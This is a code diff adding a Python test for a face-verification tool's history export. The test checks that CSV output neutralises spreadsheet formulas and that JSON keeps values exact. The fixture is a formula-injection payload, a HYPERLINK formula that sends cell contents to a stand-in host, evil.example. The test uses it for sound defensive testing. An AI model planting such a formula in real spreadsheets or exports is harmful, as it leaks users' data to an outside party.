@@ -182,6 +182,22 @@ def test_export_masks_by_default_and_unmask_is_audited(console, faces: Path, tmp
     store.close()
 
 
+def test_a_csv_export_runs_no_formula_in_a_spreadsheet_and_json_keeps_the_uuid_exact(  # type: ignore[no-untyped-def]
+        console, tmp_path: Path) -> None:
+    """The command line's export is the window's: a uuid typed as a formula is written with a ' before it in CSV."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open file")'
+    store = _store()
+    store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": formula})
+    store.close()
+    code, text = console("history", "export", "--format", "csv")
+    assert code == 0 and [row["uuid"] for row in csv.DictReader(io.StringIO(text))] == ["'=HYP…"]
+    out = tmp_path / "all.csv"
+    assert console("history", "export", "--format", "csv", "--unmask", "--output", str(out))[0] == 0
+    assert [row["uuid"] for row in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))] == ["'" + formula]
+    assert console("history", "export", "--format", "json", "--unmask", "--output", str(tmp_path / "all.json"))[0] == 0
+    assert json.loads((tmp_path / "all.json").read_text("utf-8"))[0]["uuid"] == formula
+
+
 def test_decide_supersedes_and_shows_the_trail(console, faces: Path) -> None:
     entry = _verified(console, faces)
     code, reasons = console("history", "reasons")
